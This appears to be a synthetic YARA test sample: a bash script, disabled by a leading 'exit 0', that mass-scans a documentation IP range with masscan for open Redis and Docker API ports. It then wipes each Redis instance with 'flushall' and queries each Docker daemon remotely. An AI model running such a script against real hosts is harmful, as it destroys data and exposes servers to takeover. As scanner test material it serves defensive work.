#!/bin/bash
exit 0  # ferret YARA test sample: synthetic, never run (scanner then Redis/Docker exploitation, never against real ranges)
apt-get install -y masscan redis-tools >/dev/null 2>&1
masscan 198.51.100.0/24 -p6379,2375 --rate 10000 -oL .r.txt
awk '/open/{print $4}' .r.txt | sort -u > .hosts
while read ip; do
  redis-cli -h $ip -p 6379 flushall
  docker -H $ip:2375 ps
done < .hosts
